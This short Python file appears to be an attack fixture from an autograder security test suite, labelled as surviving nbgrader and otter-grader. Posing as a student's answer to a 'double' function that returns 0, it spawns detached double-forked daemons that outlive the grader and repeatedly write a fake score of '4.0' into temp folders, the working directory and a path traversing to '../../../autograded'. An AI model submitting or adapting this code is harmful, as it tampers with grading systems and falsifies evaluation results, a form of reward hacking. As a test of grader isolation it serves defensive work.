"""Leaves daemons behind that outlive their parent and write into every folder later."""
# falls: nbgrader 0.9.6 (all of 20 survive), otter-grader 7.0.0
# expect: double=0

# %% double-solution
import os
import time


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for descriptor in range(256):
        try:
            os.close(descriptor)
        except OSError:
            pass
    for _ in range(200):
        for folder in ("/tmp", "/dev/shm", "/var/tmp", "../../../autograded", "."):
            try:
                with open(f"{folder}/tensorgrade-attack-daemon", "w") as file:
                    file.write("4.0")
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)


for _ in range(4):
    _daemon()


def double(x):
    return 0
